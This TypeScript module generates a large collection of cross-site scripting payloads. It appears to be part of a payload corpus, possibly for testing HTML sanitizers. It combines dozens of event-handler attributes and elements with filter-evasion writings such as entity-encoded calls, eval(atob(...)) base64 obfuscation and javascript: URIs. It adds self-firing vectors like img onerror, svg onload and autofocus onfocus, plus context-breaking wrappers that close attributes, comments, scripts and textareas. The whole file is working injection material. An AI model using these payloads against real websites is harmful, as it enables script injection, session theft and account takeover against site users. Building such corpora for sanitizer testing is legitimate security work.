/** Handlers of events, in attributes and in the places where something else is expected to end. */
import type { Form } from './corpus.ts';

const events = (
  'onabort onanimationend onauxclick onbeforeinput onbeforetoggle onblur oncanplay onchange onclick ' +
  'oncontextmenu oncopy ondblclick ondrag ondrop onerror onfocus onfocusin oninput oninvalid onkeydown ' +
  'onload onmousedown onmouseenter onmouseover onpaste onpointerdown onpointerover onpointerrawupdate ' +
  'onscroll onscrollend onselect onsubmit ontoggle ontouchstart ontransitionend onwheel ' +
  'oncontentvisibilityautostatechange onbeforematch'
).split(' ');
const elements = ['p', 'b', 'a', 'img src=/none', 'table', 'svg', 'details open', 'x-own'];

/** Ways to write an attribute. */
const writings: readonly ((name: string, call: string) => string)[] = [
  (name, call) => `${name}="${call}"`,
  (name, call) => `${name}='${call}'`,
  (name, call) => `${name}=${call}`,
  (name, call) => `${name.toUpperCase()} = "${call}"`,
  (name, call) => `/${name}=${call}`,
  (name, call) => `\f${name}\n=\t"${call}"`,
  (name, call) => `x="y"${name}="${call}"`,
  (name, call) => `${name}="${call.replace('(', '&#40;').replace(')', '&rpar;')}"`,
  (name, call) => `${name}="eval(atob(&quot;${btoa(call)}&quot;))"`,
  (name, call) => `${name}="javascript:${call}"`,
  (name, call) => `href=/ title=">" ${name}="${call}"`,
  (name, call) => `class="" ${name}="top['${call.slice(0, 3)}'](${call.slice(4)}"`,
];

/** Handlers that run by themselves. */
const byThemselves: readonly ((call: string) => string)[] = [
  (call) => `<img src=x: onerror=${call}>`,
  (call) => `<img src onerror=${call}>`,
  (call) => `<img/src/onerror=${call}>`,
  (call) => `<IMG """><IMG SRC=x: ONERROR="${call}">">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href="data:text/css,a" onload=${call}>`,
  (call) => `<object data="data:," onerror=${call} onload=${call}></object>`,
  (call) => `<video src=x: onerror=${call}></video>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x: onerror=${call}></audio>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `<a href=# autofocus tabindex=0 onfocus=${call}>x</a>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<embed src=data:, onload=${call}>`,
  (call) => `<input type=image src=x: onerror=${call}>`,
  (call) => `<picture><source srcset=x:><img src=x: onerror=${call}></picture>`,
  (call) => `<img src=x: srcset=x: onloadstart=${call} onerror=${call}>`,
  (call) => `<svg><image href=x: onerror=${call}></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  (call) => `<svg><set onbegin=${call} attributeName=x></svg>`,
  (call) => `<svg><style onload=${call}></style></svg>`,
  (call) => `<script src=data:, onload=${call} onerror=${call}></script>`,
  (call) => `<div popover id=p onbeforetoggle=${call}>x</div><button popovertarget=p>go</button>`,
];
/** Surroundings that would end something. */
const surroundings: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<p>words${html}words</p>`,
  (html) => `">${html}`,
  (html) => `'>${html}`,
  (html) => `--></style></script></title></textarea></noscript>${html}`,
  (html) => `<table><tr><td>${html}`,
  (html) => `<ul><li lang="la">${html}</ul>`,
  (html) => `<!--><b>${html}-->`,
  (html) => `<a title="</a>">${html}</a>`,
  (html) => `\u0000<${html}`,
];

export const handlerPayloads: Record<string, readonly Form[]> = {
  handler: events.flatMap((event, index) =>
    elements.map((element, at): Form => ({ call }) => {
      const write = writings[(index + at) % writings.length];
      return `<${element} ${write?.(event, call)}>words</${element.split(' ')[0]}>`;
    }),
  ),
  'by-itself': byThemselves.flatMap((write) =>
    surroundings.map(
      (around): Form =>
        ({ call }) =>
          around(write(call)),
    ),
  ),
};
